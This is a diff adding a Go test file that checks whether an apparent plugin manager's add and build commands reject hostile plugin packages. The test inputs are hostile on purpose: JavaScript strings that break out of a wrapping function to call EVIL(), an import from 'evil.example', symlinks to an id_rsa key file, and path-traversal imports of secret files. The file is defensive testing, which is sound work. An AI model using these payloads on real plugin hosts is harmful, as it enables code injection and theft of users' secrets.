@@ -1,0 +1,91 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"opentabs/internal/config"
+)
+
+// TestAttackByPlugin: what a plugin's package does when it is added or built.
+func TestAttackByPlugin(t *testing.T) {
+	t.Run("adapters that leave the function around them", func(t *testing.T) {
+		for _, code := range []string{
+			"}); EVIL(); (function () {", "#!x\r}); EVIL(); (function(){", "#!x\u2028}); EVIL(); (function(){",
+			`await / "(" ; }); EVIL(); (function(){ "x)" /g`, "<!-- \n}); EVIL(); (function(){", "}, EVIL(), function(){",
+			"export default EVIL()", "import 'https://evil.example/x.js'", "let globalThis = window", "\xff});",
+		} {
+			dirs, dir := freshPlugin(t)
+			writeIn(t, dir, "dist/adapter.iife.js", code)
+			if out, err := opentabs(t, dirs, "plugin", "add", dir).CombinedOutput(); err == nil {
+				t.Errorf("%q was added: %s", code, out)
+			}
+		}
+	})
+	t.Run("files of the package that lead to the person's secrets", func(t *testing.T) {
+		const secret = `S3CRET"name":`
+		for _, file := range []string{"dist/adapter.iife.js", "dist/tools.json", "package.json"} {
+			dirs, dir := freshPlugin(t)
+			private := filepath.Join(t.TempDir(), "id_rsa")
+			path := filepath.Join(dir, file)
+			if err := errorsOf(os.WriteFile(private, []byte(secret+"\nS3CRET line two\n"), 0o600), os.Remove(path), os.Symlink(private, path)); err != nil {
+				t.Fatal(err)
+			}
+			out, err := opentabs(t, dirs, "plugin", "add", dir).CombinedOutput()
+			if err == nil || strings.Contains(string(out), "S3CRET") {
+				t.Errorf("%s: %v %s", file, err, out)
+			}
+		}
+	})
+	t.Run("a source that builds the person's secrets into the plugin", func(t *testing.T) {
+		private := filepath.Join(t.TempDir(), "secret.json")
+		if err := os.WriteFile(private, []byte(`{"a":"S3CRET"}`), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		for _, source := range []string{
+			`import x from "` + private + `"; export default x;`,
+			`import x from "` + private + `" with { type: "text" }; console.log(x);`,
+			`import x from "../../../../../../../../../..` + private + `"; console.log(x);`,
+			`console.log(require("` + private + `"));`,
+			`import("` + private + `").then(console.log);`,
+		} {
+			dirs, dir := freshPlugin(t)
+			writeIn(t, dir, "src/index.ts", source)
+			if err := os.RemoveAll(filepath.Join(dir, "dist")); err != nil {
+				t.Fatal(err)
+			}
+			out, err := opentabs(t, dirs, "plugin", "build", dir).CombinedOutput()
+			if err == nil || strings.Contains(string(out), "S3CRET") {
+				t.Errorf("%s: %v %s", source, err, out)
+			}
+			built, _ := os.ReadFile(filepath.Join(dir, "dist", "adapter.iife.js"))
+			if strings.Contains(string(built), "S3CRET") {
+				t.Errorf("%s: the secret is in the plugin", source)
+			}
+		}
+	})
+}
+
+// freshPlugin returns new directories and a built plugin that was not added.
+func freshPlugin(t *testing.T) (dirs config.Dirs, dir string) {
+	t.Helper()
+	base := t.TempDir()
+	dirs = config.Dirs{Config: filepath.Join(base, "home"), State: filepath.Join(base, "home")}
+	dir = filepath.Join(base, "messages")
+	writeIn(t, dir, "package.json", `{"name": "opentabs-plugin-messages", "version": "1.0.0", "main": "dist/adapter.iife.js",
+		"opentabs": {"displayName": "Messages", "description": "For tests", "urlPatterns": ["*://localhost/*"]}}`)
+	writeIn(t, dir, "dist/adapter.iife.js", `(() => {})();`)
+	writeIn(t, dir, "dist/tools.json", `{"sdkVersion": "0.0.1", "tools": [
+		{"name": "echo", "description": "Echo", "input_schema": {"type": "object"}, "output_schema": {"type": "object"}}]}`)
+	return dirs, dir
+}
+
+func writeIn(t *testing.T, dir, name, text string) {
+	t.Helper()
+	path := filepath.Join(dir, name)
+	if err := errorsOf(os.MkdirAll(filepath.Dir(path), 0o700), os.WriteFile(path, []byte(text), 0o600)); err != nil {
+		t.Fatal(err)
+	}
+}
